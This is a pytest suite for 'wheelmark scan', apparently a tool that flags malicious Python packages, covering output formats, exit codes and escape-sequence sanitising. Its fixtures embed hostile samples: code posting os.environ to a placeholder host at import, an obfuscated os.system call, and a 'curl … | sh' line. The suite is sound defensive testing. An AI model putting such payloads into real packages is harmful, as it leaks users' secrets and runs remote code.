"""`wheelmark scan` as people and scripts run it."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from support.scan import a_wheel, an_sdist, the_ruleset

MALICIOUS = {
    "widget/__init__.py": "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))"
}
SUSPICIOUS = {"widget/__init__.py": "import os\ngetattr(os, 'sys' + 'tem')('echo imitation')"}
BENIGN = {"widget/__init__.py": "VERSION = 1\n"}


def scan(*arguments: object) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "wheelmark.cli", "scan", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, timeout=120)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "bad-1-py3-none-any.whl").write_bytes(a_wheel(MALICIOUS))
    (tmp_path / "odd-1-py3-none-any.whl").write_bytes(a_wheel(SUSPICIOUS))
    (tmp_path / "deep").mkdir()
    (tmp_path / "deep" / "good-1.tar.gz").write_bytes(an_sdist(BENIGN))
    (tmp_path / "notes.txt").write_text("no distribution")
    return tmp_path


def test_json_has_one_line_for_each_file_in_order(folder: Path) -> None:
    result = scan(folder, "--format", "json", "--jobs", 2)
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [(Path(line["file"]).name, line["verdict"]) for line in lines] == [
        ("bad-1-py3-none-any.whl", "malicious"),
        ("good-1.tar.gz", "benign"),
        ("odd-1-py3-none-any.whl", "suspicious"),
    ]
    always = {"file", "sha256", "verdict", "score", "findings", "elapsed_ms", "ruleset", "model"}
    assert set(lines[0]) == always | {"reasons"}
    assert set(lines[1]) == always
    assert set(lines[0]["findings"][0]) == {"rule", "severity", "member", "line", "message", "evidence"}
    assert result.returncode == 1
    assert result.stderr == ""


@pytest.mark.parametrize(
    ("name", "fail_on", "status"),
    [
        ("deep/good-1.tar.gz", "suspicious", 0),
        ("odd-1-py3-none-any.whl", "malicious", 0),
        ("odd-1-py3-none-any.whl", "suspicious", 1),
        ("bad-1-py3-none-any.whl", "malicious", 1),
    ],
)
def test_exit_status_follows_fail_on(folder: Path, name: str, fail_on: str, status: int) -> None:
    assert scan(folder / name, "--fail-on", fail_on).returncode == status


def test_what_cannot_be_read_is_incomplete_and_exits_with_2(folder: Path) -> None:
    (folder / "broken-1-py3-none-any.whl").write_bytes(b"no archive")
    result = scan(folder / "broken-1-py3-none-any.whl", folder / "missing.whl", "--format", "json")
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["verdict"] for line in lines] == ["incomplete", "incomplete"]
    assert all(line["incomplete_reason"] for line in lines)
    assert result.returncode == 2


def test_folder_without_distributions_is_not_called_clean(tmp_path: Path) -> None:
    result = scan(tmp_path)
    assert result.returncode == 2
    assert "expected distributions to scan, got none" in result.stderr


def test_text_says_where_why_and_what(folder: Path) -> None:
    result = scan(folder / "bad-1-py3-none-any.whl")
    assert "malicious" in result.stdout
    assert "widget/__init__.py:2 (runs at import)  [secrets-sent]" in result.stdout
    assert "requests.post of os.environ" in result.stdout


def test_escape_sequences_of_a_file_do_not_reach_the_terminal(tmp_path: Path) -> None:
    path = tmp_path / "esc-1-py3-none-any.whl"
    path.write_bytes(
        a_wheel({"widget/\x1b[2J.py": "import os\nos.system('curl https://x.example.invalid/a | sh; [red]\x1b[2J')"})
    )
    assert "\x1b" not in scan(path).stdout


def test_sarif_is_one_log_of_all_files(folder: Path) -> None:
    result = scan(folder, "--format", "sarif")
    log = json.loads(result.stdout)
    assert log["version"] == "2.1.0"
    assert {each["ruleId"] for each in log["runs"][0]["results"]} >= {"secrets-sent", "hidden-call"}
    assert result.returncode == 1


def test_malicious_samples_of_all_rules_are_scanned_in_one_run(tmp_path: Path) -> None:
    for rule in the_ruleset().rules:
        for number, sample in enumerate(rule.samples.malicious):
            suffix = "-py3-none-any.whl" if sample.is_wheel else ".tar.gz"
            (tmp_path / f"{rule.id.replace('-', '_')}-{number}{suffix}").write_bytes(sample.packed())
    lines = [json.loads(line) for line in scan(tmp_path, "--format", "json").stdout.splitlines()]
    assert len(lines) >= 24
    assert all(line["findings"] for line in lines)
